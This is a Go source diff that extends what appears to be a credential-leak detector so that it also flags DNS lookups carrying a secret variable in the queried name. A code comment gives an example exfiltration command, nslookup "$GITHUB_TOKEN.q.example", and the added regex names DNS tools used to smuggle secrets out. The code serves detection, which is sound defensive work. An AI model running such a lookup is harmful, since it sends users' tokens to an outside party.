@@ -42,8 +42,11 @@ var secretVarOwners = map[string][]string{
 // secretVarSentIn returns the variable a line sends to a host not its
 // service's, and that host, or "".
 func secretVarSentIn(line string) (name, host string) {
-	if !containsAny(line, envSecretWords) || !strings.Contains(line, "://") {
+	if !containsAny(line, envSecretWords) {
 		return "", ""
+	}
+	if !strings.Contains(line, "://") {
+		return secretVarInDNSName(line)
 	}
 	ms := envSecretRef.FindAllStringSubmatch(line, -1)
 	if len(ms) == 0 || !netSink.MatchString(line) && !strings.Contains(strings.ToLower(line), "net::http") {
@@ -93,4 +96,29 @@ func foreignHost(line, word string, domains []string) string {
 func sendsSecretVar(cmd string) bool {
 	name, _ := secretVarSentIn(cmd)
 	return name != ""
+}
+
+// dnsSecretName: a DNS lookup (nslookup, dig, host, drill, ping, getent)
+// of a name that starts with a variable and ends in a domain written out:
+// nslookup "$GITHUB_TOKEN.q.example" sends the value to whoever answers
+// for q.example, with no URL on the line.
+var dnsSecretName = lazyre.New(`(?i)(?:^|[\s;&|(])(?:nslookup|dig|host|drill|ping|getent\s+a?hosts)\s+[^;&|\n]*?\$\{?([A-Z][A-Z0-9_]*)\}?[^\s"'.]*\.((?:[a-z0-9-]+\.)+[a-z]{2,})`)
+
+// secretVarInDNSName returns a named service's credential a DNS lookup
+// puts in the name it asks for, and the domain asked, or "".
+func secretVarInDNSName(line string) (name, host string) {
+	for _, m := range dnsSecretName.FindAllStringSubmatch(line, -1) {
+		if !envSecretRef.MatchString("$" + m[1]) {
+			continue
+		}
+		word, _, _ := strings.Cut(m[1], "_")
+		owners, ok := secretVarOwners[word]
+		if !ok {
+			continue
+		}
+		if h := foreignHost("https://"+strings.ToLower(m[2]), strings.ToLower(word), owners); h != "" {
+			return m[1], h
+		}
+	}
+	return "", ""
 }
